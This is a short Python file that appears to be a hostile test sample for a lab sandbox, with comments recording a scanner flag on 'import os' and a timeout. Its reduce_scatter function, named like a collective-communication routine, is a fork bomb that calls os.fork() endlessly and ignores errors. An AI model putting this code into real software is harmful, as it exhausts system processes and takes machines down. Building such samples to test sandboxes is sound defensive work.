# hostile: forks without end (the process limit and the end-of-criterion kill bound it)
# lab: 02
# scan: import of os
# sandbox: did not finish within
import os


def reduce_scatter(g, x, op="sum"):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def all_gather(g, piece, sizes=None):
    return piece
